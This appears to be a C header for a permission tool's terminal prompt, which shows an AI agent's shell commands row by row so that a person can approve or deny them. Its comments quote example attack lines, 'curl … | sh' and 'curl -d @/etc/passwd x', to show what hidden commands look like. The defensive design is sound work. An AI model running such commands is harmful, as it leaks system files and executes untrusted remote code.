/* The line prompt: a front end of the permission engine on the person's
 * terminal (/dev/tty), for `skillgate run` and an MCP server with no TUI
 * attached. Like the TUI's prompt it is shown the head of the queue
 * (sg_perm_show_fn) and answers it by id; its terminal is polled in the
 * run's loop through the engine (sg_perm_set_frontend_fds). One key
 * answers, without Enter: while a prompt is shown the terminal is in
 * cbreak mode, put back on every way out (the answer, the deadline, close,
 * exit, and a signal that ends or stops skillgate). Its input is /dev/tty,
 * never stdin: it works the same with stdin a pipe or a file. */
#ifndef SG_LINEPROMPT_H
#define SG_LINEPROMPT_H

#include <poll.h>
#include <stdbool.h>
#include <stddef.h>

#include "perm.h"

struct sg_lineprompt;
/* NULL when there is no terminal to ask on. */
struct sg_lineprompt *sg_lineprompt_open(void);
void sg_lineprompt_close(struct sg_lineprompt *lp);
/* Attach it to the engine as its front end. */
void sg_lineprompt_attach(struct sg_lineprompt *lp, struct sg_perm *perm);

/* What every prompt (this one, the TUI's, an attached TUI's) shows of a
 * command, whole and as the shell will read it. The middle of a long
 * line is where `; curl …` hides, and `curl … | sh` is two programs, not
 * curl with the arguments "| sh": so an agent's Bash line is split with
 * sg_shell_parse into its simple commands, one row each, each ending with
 * the operator after it ("ls -la  ;", "curl -d @/etc/passwd x  |", "sh");
 * a skill's exec is its program and arguments, plus, when the program is
 * a shell given -c, the script's commands the same way. A line that
 * cannot be read exactly is shown as written, one row per line of it,
 * after a row that says why. Texts are sanitized and never cut: a front
 * end wraps them and scrolls, and one that cannot show every row offers
 * no allow. */
struct sg_prompt_row {
    char *label; /* "command", "cmd 2", "program", ...; "" continues the row above */
    char *text;
};
struct sg_prompt_rows {
    struct sg_prompt_row *r;
    size_t n, cap;
    bool any_code; /* a command of it is a shell, an interpreter or a launcher (or the
                    * line cannot be read): "always" would keep any code, forever */
};
/* The rows of q's command (none when q is not one: a write, a host). */
void sg_prompt_command_rows(const struct sg_preq *q, struct sg_prompt_rows *out);
/* Whether q is a command those rows show (an agent's Bash line or an exec). */
bool sg_prompt_is_command(const struct sg_preq *q);
/* Append a row (both copied; text sanitized). */
void sg_prompt_rows_add(struct sg_prompt_rows *rows, const char *label, const char *text);
void sg_prompt_rows_free(struct sg_prompt_rows *rows);
/* What a prompt says of a request marked cut (a field did not fit). */
#define SG_PROMPT_CUT_NOTICE                                                                  \
    "TOO LONG TO SHOW WHOLE: what is shown is not all of it, so it can only be denied"

#endif
